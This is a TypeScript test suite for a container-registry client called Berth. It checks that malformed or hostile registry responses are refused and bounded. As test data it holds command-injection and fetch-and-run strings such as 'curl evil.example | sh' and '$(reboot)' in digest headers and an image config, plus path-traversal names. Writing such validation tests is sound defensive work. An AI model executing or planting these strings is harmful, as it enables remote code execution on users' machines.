// The operations against a stub registry: what a registry sends is checked before it can reach a
// link or a copyable command.
import { createHash } from 'node:crypto';
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { RegistryClient } from './client';
import { RegistryContext } from './context';
import { RegistryError } from './errors';
import { ResponseHeaders, type HttpResponse } from './http';
import { MediaType, sha256Digest } from './manifest';
import { AddressPolicy } from './policy';
import { d, enc } from './test-fixtures';
import type { Transport } from './transport';

const ORIGIN = 'https://r.example';

type Answer = { status?: number; headers?: Record<string, string>; body?: unknown };

function registry(
  answer: (url: URL, method: string, request: { maxBytes: number; authorization?: string }) => Answer,
  options: { host?: string; context?: RegistryContext; credentials?: { username: string; password: string } } = {},
): RegistryClient {
  const transport: Transport = async (req) => {
    if (req.url.pathname === '/v2/') return respond(req.url, {});
    return respond(req.url, answer(req.url, req.method, { maxBytes: req.maxBytes, authorization: req.headers.authorization }));
  };
  const context = options.context ?? newContext();
  const host = options.host ?? 'r.example';
  return new RegistryClient({
    host,
    baseUrl: host === 'docker.io' ? 'https://registry-1.docker.io' : ORIGIN,
    context,
    transport,
    credentials: options.credentials,
  });
}

const newContext = () => new RegistryContext({ policy: new AddressPolicy({ allowed: null, dockerHubRegistryUrl: 'https://registry-1.docker.io' }) });

function respond(url: URL, a: { status?: number; headers?: Record<string, string>; body?: unknown }): HttpResponse {
  const body = a.body === undefined ? Buffer.alloc(0) : Buffer.isBuffer(a.body) ? a.body : enc(a.body);
  return { status: a.status ?? 200, url, headers: new ResponseHeaders(Object.entries(a.headers ?? {}).flat()), body };
}

const badResponse = (e: unknown) => e instanceof RegistryError && e.code === 'BAD_RESPONSE';

describe('names a registry sends', () => {
  test('catalog entries that are not repository names are left out and counted', async () => {
    const client = registry(() => ({ body: { repositories: ['ok/app', 'x/../../..//evil.example/p', 'UPPER/case', 'a b', 42, null, 'team/api'] } }));
    const page = await client.listRepositories();
    assert.deepEqual(page.items, ['ok/app', 'team/api']);
    assert.equal(page.invalid, 4);
  });

  test('tags that are not tags are left out and counted', async () => {
    const client = registry(() => ({ body: { name: 'a', tags: ['1.0', '../x', 'a b', `${'t'.repeat(129)}`, 'latest', null] } }));
    const page = await client.listTags('a');
    assert.deepEqual(page.items, ['1.0', 'latest']);
    assert.equal(page.invalid, 3);
  });

  test('a Docker-Content-Digest that is not a digest never becomes the digest shown', async () => {
    const client = registry(() => ({ headers: { 'docker-content-digest': 'sha256:x; curl evil.example | sh', 'content-type': MediaType.OciManifest } }));
    await assert.rejects(client.headManifest('a', 'latest'), badResponse);
  });

  test('a digest of endless length or of another algorithm is refused, and nothing of it is kept', async () => {
    const context = newContext();
    const long = `blake3:${'ab'.repeat(8000)}`;
    const client = registry(() => ({ headers: { 'docker-content-digest': long, 'content-type': MediaType.OciManifest } }), { context });
    for (let i = 0; i < 20; i++) await assert.rejects(client.describeTag('a', `t${i}`), badResponse);
    assert.equal(context.tagDigests.size, 0);
    const sha384 = registry(() => ({ headers: { 'docker-content-digest': `sha384:${'a'.repeat(96)}`, 'content-type': MediaType.OciManifest } }));
    await assert.rejects(sha384.headManifest('a', 'latest'), badResponse);
  });

  test('a legacy manifest whose digest header is not a digest is refused', async () => {
    const legacy = { schemaVersion: 1, name: 'a', tag: 'old', architecture: 'amd64', fsLayers: [] };
    const client = registry(() => ({ headers: { 'docker-content-digest': '$(reboot)', 'content-type': MediaType.DockerSchema1Signed }, body: legacy }));
    await assert.rejects(client.getManifest('a', 'old'), badResponse);
  });

  test('an index naming a descriptor by something that is not a digest is refused', async () => {
    const index = {
      schemaVersion: 2,
      mediaType: MediaType.OciIndex,
      manifests: [
        { mediaType: MediaType.OciManifest, digest: 'sha256:../../x', size: 1 },
        { mediaType: MediaType.OciManifest, digest: d('a'), size: 1 },
      ],
    };
    const client = registry(() => ({ headers: { 'content-type': MediaType.OciIndex }, body: index }));
    await assert.rejects(client.getManifest('a', 'latest'), badResponse);
  });
});

describe('content that does not match its digest', () => {
  const manifest = { schemaVersion: 2, mediaType: MediaType.OciManifest, config: { mediaType: MediaType.OciConfig, digest: d('c'), size: 2 }, layers: [] };
  const bytes = enc(manifest);
  const actual = sha256Digest(bytes);
  const answer = (digest: string) => registry(() => ({ headers: { 'docker-content-digest': digest, 'content-type': MediaType.OciManifest }, body: bytes }));

  test('a tag whose Docker-Content-Digest is not the digest of its bytes is refused, naming both', async () => {
    await assert.rejects(
      answer(d('e')).getManifest('a', 'latest'),
      (e: unknown) => badResponse(e) && (e as Error).message.includes(`(${d('e')}) that is not the digest of its content (${actual})`),
    );
  });

  test('a tag whose Docker-Content-Digest is its bytes’ digest shows it', async () => {
    assert.equal((await answer(actual).getManifest('a', 'latest')).digest, actual);
  });

  test('a manifest fetched by digest whose bytes hash to another is refused', async () => {
    await assert.rejects(
      answer(d('a')).getManifest('a', d('a')),
      (e: unknown) => badResponse(e) && /does not match the digest asked for .*tell the registry's owner/.test((e as Error).message),
    );
  });
});

describe('what a registry says a tag resolves to, on a GET', () => {
  const manifest = { schemaVersion: 2, mediaType: MediaType.OciManifest, config: { mediaType: MediaType.OciConfig, digest: d('c'), size: 2 }, layers: [] };
  const bytes = enc(manifest);
  const notADigest = (e: unknown) => badResponse(e) && /sent a Docker-Content-Digest that is not a digest; Berth does not use it\.$/.test((e as Error).message);
  const notItsContent = (e: unknown) => badResponse(e) && /that is not the digest of its content/.test((e as Error).message);
  /** A registry other than Docker Hub, so a tag is fetched with a GET; `head405` also refuses HEAD. */
  const tagged = (digest: string, options: { head405?: boolean } = {}) => {
    const context = newContext();
    const methods: string[] = [];
    const client = registry(
      (_url, method) => {
        methods.push(method);
        if (method === 'HEAD' && options.head405) return { status: 405 };
        return { headers: { 'docker-content-digest': digest, 'content-type': MediaType.OciManifest }, body: method === 'HEAD' ? undefined : bytes };
      },
      { context },
    );
    return { client, context, methods };
  };

  const invalid: Array<[string, string]> = [
    ['too short', 'sha256:zz'],
    ['upper-case hex', `sha256:${'A'.repeat(64)}`],
    ['another algorithm, 15 KB long', `blake3:${'ab'.repeat(7500)}`],
    ['an algorithm Berth does not verify', `sha384:${'a'.repeat(96)}`],
    ['with a command after it', `${sha256Digest(bytes)}; curl evil.example | sh`],
  ];
  for (const [what, header] of invalid) {
    test(`a Docker-Content-Digest that is not a digest (${what}) is refused, and nothing of the manifest is kept`, async () => {
      const get = tagged(header);
      await assert.rejects(get.client.getManifest('a', 'latest'), notADigest);
      assert.deepEqual(get.methods, ['GET']);
      assert.equal(get.context.content.size, 0);
      // A registry that refuses HEAD is asked with a GET: the same check.
      const head = tagged(header, { head405: true });
      await assert.rejects(head.client.headManifest('a', 'latest'), notADigest);
      assert.deepEqual(head.methods, ['HEAD', 'GET']);
      assert.equal(head.context.content.size, 0);
    });
  }

  for (const algorithm of ['sha256', 'sha512'] as const) {
    const other = `${algorithm}:${'e'.repeat(algorithm === 'sha256' ? 64 : 128)}`;
    const own = `${algorithm}:${createHash(algorithm).update(bytes).digest('hex')}`;

    test(`a ${algorithm} Docker-Content-Digest of other bytes is refused, on a GET and after a refused HEAD`, async () => {
      const get = tagged(other);
      await assert.rejects(get.client.getManifest('a', 'latest'), notItsContent);
      assert.equal(get.context.content.size, 0);
      await assert.rejects(tagged(other, { head405: true }).client.headManifest('a', 'latest'), notItsContent);
    });

    test(`a ${algorithm} Docker-Content-Digest of its own bytes is the digest shown`, async () => {
      const { client } = tagged(own);
      const m = await client.getManifest('a', 'latest');
      assert.equal(m.digest, own);
      assert.equal(m.headers.dockerContentDigest, own);
      assert.equal((await tagged(own, { head405: true }).client.headManifest('a', 'latest')).digest, own);
    });
  }
});

describe('blobs that do not match their digest', () => {
  const config = enc({ architecture: 'amd64', os: 'linux', config: {} });
  const tampered = enc({ architecture: 'amd64', os: 'linux', config: { Cmd: ['sh', '-c', 'curl evil.example | sh'] } });
  const mismatch = (digest: string) => (e: unknown) =>
    badResponse(e) && (e as Error).message.includes(`returned a blob whose content does not match its digest ${digest}; Berth does not show it.`);

  for (const algorithm of ['sha256', 'sha512'] as const) {
    const digest = `${algorithm}:${createHash(algorithm).update(config).digest('hex')}`;

    test(`a ${algorithm} config blob whose bytes hash to another digest is refused by every way of reading it, and not kept`, async () => {
      const context = newContext();
      let body = tampered;
      const client = registry(() => ({ body }), { context });
      await assert.rejects(client.getBlob('a', digest), mismatch(digest));
      await assert.rejects(client.getBlobDocument('a', digest), mismatch(digest));
      await assert.rejects(client.getJsonDocument('a', digest), mismatch(digest));
      assert.equal(context.content.size, 0);
      body = config;
      assert.deepEqual(await client.getBlob('a', digest), config, 'the true bytes are read');
      assert.equal(context.content.size, 1);
    });
  }
});

describe('lists that are not lists', () => {
  test('a web page for a tag list says what came and what to check', async () => {
    const client = registry(() => ({ headers: { 'content-type': 'text/html' }, body: Buffer.from('<!DOCTYPE html><html><title>Sign in</title></html>') }));
    await assert.rejects(
      client.listTags('team/app'),
      (e: unknown) =>
        badResponse(e) &&
        /list of tags of team\/app with something that is not JSON \(a web page\)\. Check that r\.example is the registry itself/.test((e as Error).message),
    );
  });

  test('JSON that is not a catalog says so', async () => {
    const client = registry(() => ({ body: { repositories: 'all of them' } }));
    await assert.rejects(
      client.listRepositories(),
      (e: unknown) => badResponse(e) && /list of repositories with something that is not a list of repositories/.test((e as Error).message),
    );
  });
});

test('a cursor cannot ask the registry for more than 1000 entries a page', async () => {
  const asked: string[] = [];
  const client = registry((url) => {
    asked.push(url.searchParams.get('n') ?? '');
    return { body: { name: 'a', tags: ['1.0'] } };
  });
  await client.listTags('a', { cursor: '/v2/a/tags/list?n=100000000&last=x' });
  await client.listTags('a', { cursor: '/v2/a/tags/list?n=lots&last=x' });
  await client.listTags('a', { cursor: '/v2/a/tags/list?n=50&last=x' });
  await client.listTags('a', { n: 5000 });
  assert.deepEqual(asked, ['1000', '1000', '50', '1000']);
});

describe('deleting', () => {
  const digest = d('c');
  const deletes = (seen: Array<{ method: string; path: string }>) => seen.filter((r) => r.method === 'DELETE').map((r) => r.path.split('/').pop());
  /** A registry answering DELETE with `onDelete`, and recording every request. */
  function deleting(onDelete: (reference: string) => { status?: number; body?: unknown }) {
    const seen: Array<{ method: string; path: string }> = [];
    const client = registry((url, method) => {
      seen.push({ method, path: url.pathname });
      if (method === 'DELETE') return onDelete(url.pathname.split('/').pop() ?? '');
      return { status: 404, body: { errors: [{ code: 'MANIFEST_UNKNOWN' }] } };
    });
    return { client, seen };
  }
  const error = (code: string) => ({ errors: [{ code, message: code.toLowerCase() }] });
  const isCode = (code: string) => (e: unknown) => e instanceof RegistryError && e.code === code;

  const kinds: Array<[string, (reference: string) => { status?: number; body?: unknown }, string]> = [
    ['distribution 2.x: a tag DELETE is 400 DIGEST_INVALID', () => ({ status: 400, body: error('DIGEST_INVALID') }), 'digest'],
    ['OCI 1.1 / distribution 3: an unknown tag is 404 MANIFEST_UNKNOWN', () => ({ status: 404, body: error('MANIFEST_UNKNOWN') }), 'tag'],
    [
      'tag deletion off, digest deletion on',
      (ref) => (ref.startsWith('sha256:') ? { status: 404, body: error('MANIFEST_UNKNOWN') } : { status: 405, body: error('UNSUPPORTED') }),
      'digest',
    ],
  ];
  for (const [name, onDelete, kind] of kinds) {
    test(`how a registry deletes, learnt from a tag nobody made: ${name}`, async () => {
      const { client, seen } = deleting(onDelete);
      assert.equal(await client.deletionKind('team/app'), kind);
      // Only names that cannot be anybody's content were deleted: a random tag, the all-zero digest.
      for (const ref of deletes(seen)) assert.match(ref ?? '', /^(berth-probe-[0-9a-f]{24}|sha256:0{64})$/);
    });
  }

  const refusals: Array<[string, number, string, string]> = [
    ['deletion turned off (405 UNSUPPORTED)', 405, 'UNSUPPORTED', 'deletion turned off'],
    ['no delete right (403 DENIED)', 403, 'DENIED', 'may not delete'],
    ['no delete right, anonymous (401)', 401, 'UNAUTHORIZED', 'sign in to delete'],
  ];
  for (const [name, status, code, words] of refusals) {
    test(`a refusal is explained before anything is deleted: ${name}`, async () => {
      const { client } = deleting(() => ({ status, body: error(status === 405 ? 'UNSUPPORTED' : status === 403 ? 'DENIED' : 'UNAUTHORIZED') }));
      await assert.rejects(client.deletionKind('team/app'), (e: unknown) => isCode(code)(e) && (e as Error).message.includes(words));
      await assert.rejects(client.deleteManifest('team/app', digest), isCode(code));
    });
  }

  test('a tag alone is deleted only where the registry is known to delete tags alone', async () => {
    const v2 = deleting(() => ({ status: 400, body: error('DIGEST_INVALID') }));
    await assert.rejects(
      v2.client.deleteTag('team/app', 'v1'),
      (e: unknown) => isCode('UNSUPPORTED')(e) && (e as Error).message.includes('Nothing was deleted'),
    );
    assert.ok(!deletes(v2.seen).includes('v1'), 'no DELETE by tag where tags go with their manifest');

    const oci = taggedRegistry({ removesManifest: false });
    assert.deepEqual(await oci.client.deleteTag('team/app', 'v1'), { digest, manifestKept: true });
    assert.equal(deletes(oci.seen).at(-1), 'v1');
  });

  /** An OCI 1.1 registry where v1 points at `digest`; deleting v1 may take the manifest with it. */
  function taggedRegistry(options: { removesManifest: boolean; tagDelete?: { status: number; body?: unknown } }) {
    const seen: Array<{ method: string; path: string }> = [];
    let tagGone = false;
    let manifestGone = false;
    const client = registry((url, method) => {
      seen.push({ method, path: url.pathname });
      const ref = url.pathname.split('/').pop() ?? '';
      if (method === 'DELETE') {
        if (ref === 'v1') {
          if (options.tagDelete) return options.tagDelete;
          tagGone = true;
          manifestGone = options.removesManifest;
          return { status: 202 };
        }
        return { status: 404, body: error('MANIFEST_UNKNOWN') }; // the probe: a tag nobody made
      }
      const exists = ref === 'v1' ? !tagGone : ref === digest ? !manifestGone : false;
      return exists
        ? { headers: { 'docker-content-digest': digest, 'content-type': MediaType.OciManifest } }
        : { status: 404, body: error('MANIFEST_UNKNOWN') };
    });
    return { client, seen };
  }

  test('after deleting a tag alone, the manifest is looked up again: a registry that removed it too is caught', async () => {
    const { client, seen } = taggedRegistry({ removesManifest: true });
    assert.deepEqual(await client.deleteTag('team/app', 'v1'), { digest, manifestKept: false });
    const after = seen.slice(seen.findIndex((r) => r.method === 'DELETE' && r.path.endsWith('/v1')) + 1);
    assert.deepEqual(after, [{ method: 'HEAD', path: `/v2/team/app/manifests/${digest}` }], 'one HEAD of the digest after the delete');
  });

  test('a tag delete that fails makes Berth ask the registry again how it deletes, next time', async () => {
    const { client, seen } = taggedRegistry({ removesManifest: false, tagDelete: { status: 500, body: error('UNKNOWN') } });
    await assert.rejects(client.deleteTag('team/app', 'v1'));
    await assert.rejects(client.deleteTag('team/app', 'v1'));
    const probes = deletes(seen).filter((ref) => ref?.startsWith('berth-probe-'));
    assert.equal(probes.length, 2, 'the second delete probed again instead of trusting what was learnt');
  });

  test('a deleted manifest is no longer served from the caches', async () => {
    const body = enc({ schemaVersion: 2, mediaType: MediaType.OciManifest, config: { mediaType: MediaType.OciConfig, digest: d('e'), size: 2 }, layers: [] });
    const real = `sha256:${createHash('sha256').update(body).digest('hex')}`;
    let gone = false;
    const client = registry((_url, method) => {
      if (method === 'DELETE') {
        gone = true;
        return { status: 202 };
      }
      if (gone) return { status: 404, body: error('MANIFEST_UNKNOWN') };
      return { headers: { 'content-type': MediaType.OciManifest, 'docker-content-digest': real }, body };
    });
    assert.equal((await client.getManifest('team/app', real)).digest, real);
    await client.deleteManifest('team/app', real);
    await assert.rejects(client.getManifest('team/app', real), isCode('MANIFEST_UNKNOWN'));
  });
});

test('the delete right is asked for only by a delete', async () => {
  const asked: string[][] = [];
  const transport: Transport = async (req) => {
    if (req.url.pathname === '/v2/')
      return respond(req.url, { status: 401, headers: { 'www-authenticate': 'Bearer realm="https://r.example/token",service="r"' } });
    if (req.url.pathname === '/token') {
      asked.push(req.url.searchParams.getAll('scope'));
      return respond(req.url, { body: { token: 'opaque', expires_in: 300 } });
    }
    if (req.method === 'DELETE') return respond(req.url, { status: 202 });
    return respond(req.url, { body: { name: 'team/app', tags: ['v1'] } });
  };
  const context = new RegistryContext({ policy: new AddressPolicy({ allowed: null, dockerHubRegistryUrl: 'https://registry-1.docker.io' }) });
  const client = new RegistryClient({ host: 'r.example', baseUrl: ORIGIN, context, transport, credentials: { username: 'alice', password: 'x' } });
  await client.listTags('team/app');
  assert.deepEqual(asked, [['repository:team/app:pull']]);
  await client.deleteManifest('team/app', d('c'));
  assert.deepEqual(asked.at(-1), ['repository:team/app:delete,pull']);
});

test('a tag row trusts what its tag pointed at for a while; a fresh ask sees the tag moved', async () => {
  const sha = (b: Buffer) => `sha256:${createHash('sha256').update(b).digest('hex')}`;
  const config = enc({ created: '2025-01-01T00:00:00Z', architecture: 'amd64', os: 'linux', rootfs: { type: 'layers', diff_ids: [] }, config: {} });
  const manifest = (name: string) =>
    enc({
      schemaVersion: 2,
      mediaType: MediaType.OciManifest,
      config: { mediaType: MediaType.OciConfig, digest: sha(config), size: config.length },
      layers: [],
      annotations: { name },
    });
  const bodies = new Map([manifest('old'), manifest('new')].map((b) => [sha(b), b]));
  const [before, after] = [...bodies.keys()];
  let current = before ?? '';
  let heads = 0;
  const client = registry((url, method) => {
    const ref = url.pathname.split('/').at(-1) ?? '';
    if (url.pathname.includes('/blobs/')) return { body: config };
    if (method === 'HEAD') {
      heads++;
      return { headers: { 'content-type': MediaType.OciManifest, 'docker-content-digest': current } };
    }
    return { headers: { 'content-type': MediaType.OciManifest, 'docker-content-digest': ref }, body: bodies.get(ref) };
  });
  assert.equal((await client.describeTag('team/app', 'v1')).digest, before);
  current = after ?? '';
  assert.equal((await client.describeTag('team/app', 'v1')).digest, before, 'the row within its 30 s');
  assert.equal(heads, 1);
  assert.equal((await client.describeTag('team/app', 'v1', { fresh: true })).digest, after, 'asked afresh: the tag has moved');
  assert.equal(heads, 2);
  assert.equal((await client.describeTag('team/app', 'v1')).digest, after, 'and the rows now know it');
});

describe('bounds a hostile registry cannot push Berth past', () => {
  const notADocument = (e: unknown) => e instanceof RegistryError && e.code === 'NOT_A_DOCUMENT' && e.status === 422;
  const blobOf = (bytes: Buffer) => ({ digest: sha256Digest(bytes), bytes });

  test('a blob shown as a document is read no further than 1 MiB: a larger one is refused, not turned into text', async () => {
    const layer = blobOf(Buffer.alloc(2 * 1024 * 1024, 7));
    const asked: number[] = [];
    // A registry whose HEAD does not say the size: the GET is read up to a megabyte.
    const client = registry((_url, method, req) => (method === 'GET' && asked.push(req.maxBytes), method === 'HEAD' ? {} : { body: layer.bytes }));
    await assert.rejects(client.getJsonDocument('a', layer.digest), (e: unknown) => notADocument(e) && /larger than 1 MiB/.test((e as Error).message));
    assert.deepEqual(asked, [1024 * 1024], 'asked the transport for a megabyte at most');
  });

  test('a layer whose HEAD says its size is refused without reading it, and the same person asking again costs nothing', async () => {
    const digest = d('9');
    const seen: string[] = [];
    const client = registry(
      (_url, method) => (seen.push(method), method === 'HEAD' ? { headers: { 'content-length': String(8 * 1024 * 1024) } } : { body: Buffer.alloc(8) }),
    );
    await assert.rejects(client.getJsonDocument('a', digest), notADocument);
    await assert.rejects(client.getJsonDocument('a', digest), notADocument);
    assert.deepEqual(seen, ['HEAD']);
  });

  test('a blob that is not UTF-8 JSON is not a document (a layer, a binary)', async () => {
    for (const bytes of [Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0xff, 0xfe]), Buffer.from('plain text, not JSON'), Buffer.from('{"a": "\xff"}', 'latin1')]) {
      const blob = blobOf(bytes);
      const client = registry(() => ({ body: blob.bytes }));
      await assert.rejects(client.getJsonDocument('a', blob.digest), notADocument);
    }
  });

  test('an image config is a document', async () => {
    const config = blobOf(enc({ architecture: 'amd64', os: 'linux', config: {} }));
    const client = registry(() => ({ body: config.bytes, headers: { 'content-type': 'application/octet-stream' } }));
    const document = await client.getJsonDocument('a', config.digest);
    assert.equal(document.bytes.toString(), config.bytes.toString());
  });

  test('a large blob already in the cache is refused as a document without being read again', async () => {
    const big = blobOf(enc({ padding: 'x'.repeat(2 * 1024 * 1024) }));
    let gets = 0;
    const client = registry((_url, method) => (method === 'GET' && gets++, { body: big.bytes }));
    await client.getBlob('a', big.digest); // the config route reads configs up to 8 MiB
    await assert.rejects(client.getJsonDocument('a', big.digest), notADocument);
    assert.equal(gets, 1);
  });

  /** An index of `n` platform images, each served with a config; counts the manifest reads. */
  function wideIndex(n: number, options: { host?: string } = {}) {
    const children = Array.from({ length: n }, (_, i) => {
      const config = enc({ architecture: 'amd64', os: 'linux', created: '2026-01-01T00:00:00Z', variant: `v${i}` });
      const manifest = enc({
        schemaVersion: 2,
        mediaType: MediaType.OciManifest,
        config: { mediaType: MediaType.OciConfig, digest: sha256Digest(config), size: config.length },
        layers: [],
      });
      return { manifest, config, digest: sha256Digest(manifest) };
    });
    const index = enc({
      schemaVersion: 2,
      mediaType: MediaType.OciIndex,
      manifests: children.map((c, i) => ({
        mediaType: MediaType.OciManifest,
        digest: c.digest,
        size: c.manifest.length,
        platform: { os: 'linux', architecture: 'amd64', variant: `v${i}` },
      })),
    });
    const byDigest = new Map<string, Buffer>(children.flatMap((c) => [[c.digest, c.manifest] as const, [sha256Digest(c.config), c.config] as const]));
    const reads = { manifests: 0, blobs: 0 };
    const client = registry(
      (url, method) => {
        const ref = url.pathname.split('/').pop() ?? '';
        if (url.pathname.includes('/manifests/')) {
          if (method === 'GET') reads.manifests++;
          if (ref === sha256Digest(index)) return { body: index, headers: { 'content-type': MediaType.OciIndex, 'docker-content-digest': ref } };
          const bytes = byDigest.get(ref);
          return bytes ? { body: bytes, headers: { 'content-type': MediaType.OciManifest, 'docker-content-digest': ref } } : { status: 404 };
        }
        reads.blobs++;
        return { body: byDigest.get(ref) ?? Buffer.alloc(0) };
      },
      { host: options.host },
    );
    return { client, reads, digest: sha256Digest(index) };
  }

  test('an index summary reads 64 platform images at most, and counts the rest as not read', async () => {
    const { client, reads, digest } = wideIndex(200);
    const summary = await client.describeDigest('a', digest);
    assert.equal(summary.platforms.length, 64, 'a row’s worth of platforms is listed…');
    assert.equal(summary.unlisted, 136, '…and the others counted');
    assert.equal(summary.platforms.filter((p) => p.size !== undefined).length, 64);
    assert.equal(summary.unread, 136);
    assert.equal(reads.manifests, 1 + 64);
    assert.equal(reads.blobs, 64);
  });

  test('where every manifest read is a pull (Docker Hub), nothing is read that the person did not ask for', async () => {
    const { client, reads, digest } = wideIndex(3, { host: 'docker.io' });
    await assert.rejects(
      client.describeDigest('library/a', digest),
      (e: unknown) => e instanceof RegistryError && e.code === 'COSTS_A_PULL' && /counts as a pull/.test(e.message),
    );
    assert.equal(reads.manifests, 0, 'not even the index');
    // Asked for (pulls): the index itself, but not each of its platform images.
    const summary = await client.describeDigest('library/a', digest, { pulls: true });
    assert.equal(reads.manifests, 1);
    assert.equal(summary.unread, 3);
    // What is in the server's cache costs no pull: asked again, it is answered (a HEAD is free).
    assert.equal((await client.describeDigest('library/a', digest)).digest, digest);
    assert.equal(reads.manifests, 1);
  });

  test('a summary being made for one person is not handed to another when it fails for the first (their refusal names them)', async () => {
    const index = enc({ schemaVersion: 2, mediaType: MediaType.OciIndex, manifests: [] });
    const digest = sha256Digest(index);
    const context = newContext();
    let release: () => void = () => {};
    const gate = new Promise<void>((resolve) => (release = resolve));
    const client = (who: string) => {
      const transport: Transport = async (req) => {
        if (req.url.pathname === '/v2/') return respond(req.url, {});
        if (req.method === 'HEAD') return respond(req.url, { headers: { 'docker-content-digest': digest, 'content-type': MediaType.OciIndex } });
        await gate;
        return who === 'mallory'
          ? respond(req.url, { status: 403, body: { errors: [{ code: 'DENIED', message: 'mallory may not read a' }] } })
          : respond(req.url, { body: index, headers: { 'content-type': MediaType.OciIndex } });
      };
      return new RegistryClient({ host: 'r.example', baseUrl: ORIGIN, context, transport, credentials: { username: who, password: 'p' } });
    };
    const [mallory, alice] = [client('mallory'), client('alice')];
    // Both read the repository a moment ago: the summary of its digest is one both may share.
    await mallory.headManifest('a', 'v1');
    await alice.headManifest('a', 'v1');
    const first = mallory.describeDigest('a', digest);
    const second = alice.describeDigest('a', digest);
    release();
    await assert.rejects(first, (e: unknown) => e instanceof RegistryError && e.code === 'DENIED');
    const answered = await second.catch((e: unknown) => e);
    assert.ok(!(answered instanceof Error), `alice was handed mallory's failure: ${String(answered)}`);
    assert.equal((answered as { digest: string }).digest, digest);
  });
});
